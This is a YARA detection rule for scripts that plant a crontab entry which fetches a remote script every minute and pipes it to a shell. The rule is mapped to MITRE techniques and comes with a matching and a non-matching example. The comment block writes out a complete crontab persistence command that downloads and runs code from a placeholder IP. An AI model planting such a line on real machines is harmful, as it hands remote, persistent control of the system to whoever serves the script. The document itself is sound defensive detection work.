rule cron_fetch_script : text
{
    meta:
        title = "plant a schedule that fetches and runs code every minute"
        explanation = "A script writes a crontab whose lines fetch a script and pipe it to a shell. Whoever controls that address controls the machine from then on, also after the container is gone when the crontab is the host's."
        class = "malware"
        severity = "high"
        confidence = "medium"
        attack = "T1053.003, T1105"
        reference = "https://attack.mitre.org/software/S0599/"
    strings:
        $line1 = "* * * * * wget -q -O - http"
        $line2 = "* * * * * curl -"
        $line3 = "* * * * * root curl "
        $line4 = "* * * * * root wget "
        $line5 = "* * * * * (curl -"
        $line6 = "* * * * * root (curl -"
        $line7 = "* * * * * curl http"
        $line8 = "* * * * * wget http"
        $shell1 = "| sh"
        $shell2 = "|sh\n"
        $shell3 = "|sh "
        $shell4 = "| bash"
        $shell5 = "|bash"
        $shell6 = "|sh\""
        $shell7 = "|sh'"
        $place1 = "crontab -"
        $place2 = "/etc/cron"
        $place3 = "/spool/cron"
    condition:
        filesize < 256KB and uint32(0) != 0x464c457f and 1 of ($line*) and 1 of ($shell*) and 1 of ($place*)
}

/* example: fires on a script that plants the line
    FILE /init.sh 0755
        #!/bin/sh
        (crontab -l; echo "* * * * * wget -q -O - http://192.0.2.9/u.sh | sh > /dev/null 2>&1") | crontab -
*/
/* example: quiet on a job that pings a monitor
    FILE /etc/cron.d/ping
        * * * * * root curl -fsS https://ping.example.org/alive > /dev/null
*/
